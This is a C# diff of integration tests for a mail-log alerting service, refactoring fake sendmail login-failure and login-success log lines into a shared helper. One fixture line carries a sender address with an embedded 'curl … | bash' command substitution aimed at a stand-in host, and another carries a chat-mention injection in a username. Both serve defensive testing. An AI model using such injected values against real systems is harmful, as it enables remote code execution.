@@ -17,14 +17,6 @@ public sealed class AlertTests(PostgresFixture pg)
 {
     private static readonly AlertRules Rules = new(AlertKinds.All, TimeSpan.FromDays(30), TimeSpan.FromHours(1));
 
-    internal static string Line(DateTimeOffset t, string message) => $"{t.ToString("yyyy-MM-dd'T'HH:mm:sszzz", CultureInfo.InvariantCulture)} mx sm-mta[{t.Second + 100}]: {message}";
-
-    internal static string AuthFailure(DateTimeOffset t, string ip, string user) =>
-        Line(t, $"551A00aa001201: AUTH failure (PLAIN): authentication failure (-13) SASL(-13): authentication failure: Password verification failed, user={user}, relay=[{ip}]");
-
-    internal static string AuthSuccess(DateTimeOffset t, string ip, string user) =>
-        Line(t, $"551A05aa001300: AUTH=server, relay=[{ip}], authid={user}, mech=PLAIN, bits=0");
-
     [Fact]
     public async Task A_login_from_a_client_that_attacked_raises_one_alert_and_the_same_lines_raise_nothing_again()
     {
@@ -34,12 +26,12 @@ public sealed class AlertTests(PostgresFixture pg)
         var log = dir.File("maillog");
         await File.WriteAllLinesAsync(log,
         [
-            AuthSuccess(now.AddDays(-400), "185.220.101.7", "admin"),   // history, not news
-            .. Enumerable.Range(0, 3).Select(i => AuthFailure(now.AddMinutes(-10).AddSeconds(i), "185.220.101.7", "admin")),
-            AuthSuccess(now.AddMinutes(-5), "185.220.101.7", "admin"),
-            AuthSuccess(now.AddMinutes(-4), "185.220.101.7", "admin<!channel>"),   // the same client again: quiet
-            AuthSuccess(now.AddMinutes(-5), "62.233.50.9", "alice"),            // never attacked: no alert
-            Line(now.AddMinutes(-3), "5392CiAa003103: from=<$(curl -s http://x.example/a|bash)@x>, size=0, class=0, nrcpts=0, proto=ESMTP, daemon=MTA, relay=[185.220.101.6]"),
+            AttackLines.AuthSuccess(now.AddDays(-400), "185.220.101.7", "admin"),   // history, not news
+            .. Enumerable.Range(0, 3).Select(i => AttackLines.AuthFailure(now.AddMinutes(-10).AddSeconds(i), "185.220.101.7", "admin")),
+            AttackLines.AuthSuccess(now.AddMinutes(-5), "185.220.101.7", "admin"),
+            AttackLines.AuthSuccess(now.AddMinutes(-4), "185.220.101.7", "admin<!channel>"),   // the same client again: quiet
+            AttackLines.AuthSuccess(now.AddMinutes(-5), "62.233.50.9", "alice"),            // never attacked: no alert
+            AttackLines.Line(now.AddMinutes(-3), "5392CiAa003103: from=<$(curl -s http://x.example/a|bash)@x>, size=0, class=0, nrcpts=0, proto=ESMTP, daemon=MTA, relay=[185.220.101.6]"),
         ]);
         Assert.Equal(0, TestCli.Run(cs, "ingest", log).Exit);
         var alerts = new AlertService(Store.Of(cs));
@@ -61,7 +53,7 @@ public sealed class AlertTests(PostgresFixture pg)
         using var dir = new TempDir();
         var now = DateTimeOffset.UtcNow;
         var log = dir.File("maillog");
-        await File.WriteAllLinesAsync(log, [AuthFailure(now.AddMinutes(-2), "185.220.101.7", "root"), AuthSuccess(now.AddMinutes(-1), "185.220.101.7", "root")]);
+        await File.WriteAllLinesAsync(log, [AttackLines.AuthFailure(now.AddMinutes(-2), "185.220.101.7", "root"), AttackLines.AuthSuccess(now.AddMinutes(-1), "185.220.101.7", "root")]);
         Assert.Equal(0, TestCli.Run(cs, "ingest", log).Exit);
         var alerts = new AlertService(Store.Of(cs));
         var id = (await alerts.RaiseAsync(now.AddMinutes(-15), Rules)).Single().Id;
@@ -81,7 +73,7 @@ public sealed class AlertTests(PostgresFixture pg)
         using var dir = new TempDir();
         var log = dir.File("mail.log");
         var now = DateTimeOffset.UtcNow;
-        await File.WriteAllLinesAsync(log, [AuthFailure(now.AddMinutes(-3), "185.220.101.7", "admin")]);
+        await File.WriteAllLinesAsync(log, [AttackLines.AuthFailure(now.AddMinutes(-3), "185.220.101.7", "admin")]);
         using var hook = new WebhookListener();
         using var host = BuildHost(new Dictionary<string, string?>
         {
@@ -95,11 +87,11 @@ public sealed class AlertTests(PostgresFixture pg)
         await host.StartAsync();
         await Task.Delay(1500);
         var appended = DateTime.UtcNow;
-        await File.AppendAllLinesAsync(log, [AuthSuccess(DateTimeOffset.UtcNow, "185.220.101.7", "admin")]);
+        await File.AppendAllLinesAsync(log, [AttackLines.AuthSuccess(DateTimeOffset.UtcNow, "185.220.101.7", "admin")]);
 
         var body = await hook.NextAsync(TimeSpan.FromSeconds(60));
         var latency = DateTime.UtcNow - appended;
-        await File.AppendAllLinesAsync(log, [AuthSuccess(DateTimeOffset.UtcNow, "185.220.101.7", "admin")]);
+        await File.AppendAllLinesAsync(log, [AttackLines.AuthSuccess(DateTimeOffset.UtcNow, "185.220.101.7", "admin")]);
         var again = await hook.NextAsync(TimeSpan.FromSeconds(4));
         await host.StopAsync();
 
